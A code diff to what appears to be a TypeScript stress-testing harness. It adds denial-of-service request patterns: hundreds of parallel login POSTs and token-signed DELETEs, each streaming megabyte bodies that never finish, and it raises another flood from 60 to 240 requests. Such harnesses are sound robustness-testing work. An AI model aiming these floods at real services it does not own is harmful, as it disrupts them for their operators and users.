@@ -111,7 +111,19 @@ const held: Attack[] = [
   what: `bodies that stop before their end, with a token: ${head.split(" HTTP")[0]}`,
   run: (target) => {
     const signed = `${head.replace("USER", target.user)}Authorization: Bearer ${target.tokens[0]}\r\n`;
-    return many(60, () => pour(target, { head: signed, chunks: largest, times: 1, ends: false }));
+    return many(240, () => pour(target, { head: signed, chunks: largest, times: 1, ends: false }));
+  },
+}));
+
+/** Requests that are answered after a write, and need no body. */
+const unread: Attack[] = [
+  "POST /index.php/login/v2 HTTP/1.1\r\n",
+  "DELETE /v1/subscriptions/00000000-0000-4000-8000-000000000000 HTTP/1.1\r\nAuthorization: Bearer TOKEN\r\n",
+].map((head) => ({
+  what: `bodies that nobody reads: ${head.split(" HTTP")[0]}`,
+  run: (target) => {
+    const signed = head.replace("TOKEN", target.tokens[0] ?? "");
+    return many(400, () => pour(target, { head: signed, chunks: megabyte, times: 2, ends: false }));
   },
 }));
 
@@ -280,6 +292,6 @@ const feeds: Attack = {
 };
 
 export const ATTACKS: Attack[] = [
-  ...[...refused, ...stopped, ...held, tooLarge, ...crumbled, ...wrong],
+  ...[...refused, ...stopped, ...held, ...unread, tooLarge, ...crumbled, ...wrong],
   ...[slashes, ...plays, ...forms, brackets, hashes, feeds],
 ];
